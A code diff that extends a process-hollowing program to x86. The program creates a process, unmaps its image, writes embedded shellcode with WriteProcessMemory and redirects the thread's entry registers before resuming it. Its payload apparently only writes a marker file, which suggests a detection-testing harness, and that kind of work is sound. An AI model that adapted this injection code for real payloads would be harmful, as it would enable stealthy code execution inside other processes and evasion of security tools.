@@ -6,7 +6,7 @@
  * process's PEB with ReadProcessMemory), writes the shellcode embedded in this EXE's data and
  * its context block into new memory of the process (VirtualAllocEx, WriteProcessMemory twice),
  * points the thread's start at it (GetThreadContext, SetThreadContext: Rcx, the entry the
- * initial thread starts, and Rip) and resumes the thread (ResumeThread). The shellcode
+ * initial thread starts, and Rip; Eax and Eip on x86) and resumes the thread (ResumeThread). The shellcode
  * (../../lineage-common/payload_self.c) writes C:\Users\Public\lineage_hollow.txt.
  * Exit codes: 0 ok, 1 no marker, 2 process, 3 memory, 4 thread.
  */
@@ -41,8 +41,12 @@ void Entry(void)
     tc.ContextFlags = CONTEXT_FULL;
     if (!GetThreadContext(pi.hThread, &tc))
         ExitProcess(4);
-    /* PEB.ImageBaseAddress; Rdx holds the PEB when the initial thread starts. */
+    /* PEB.ImageBaseAddress; Rdx (x64) or Ebx (x86) holds the PEB when the initial thread starts. */
+#ifdef _WIN64
     ReadProcessMemory(pi.hProcess, (PVOID)(tc.Rdx + 0x10), &image, sizeof(image), &written);
+#else
+    ReadProcessMemory(pi.hProcess, (PVOID)(tc.Ebx + 0x8), &image, sizeof(image), &written);
+#endif
     unmap = (ZwUnmapViewOfSection_t)(void *)GetProcAddress(GetModuleHandleA("ntdll.dll"), "ZwUnmapViewOfSection");
     if (!unmap)
         ExitProcess(3);
@@ -54,8 +58,13 @@ void Entry(void)
     if (!WriteProcessMemory(pi.hProcess, code, payload, sizeof(payload), &written) ||
         !WriteProcessMemory(pi.hProcess, code + CTX_OFFSET, &ctx, sizeof(ctx), &written))
         ExitProcess(3);
+#ifdef _WIN64
     tc.Rcx = (DWORD64)code;
     tc.Rip = (DWORD64)code;
+#else
+    tc.Eax = (DWORD)code;
+    tc.Eip = (DWORD)code;
+#endif
     if (!SetThreadContext(pi.hThread, &tc) || ResumeThread(pi.hThread) == (DWORD)-1)
         ExitProcess(4);
     CloseHandle(pi.hThread);
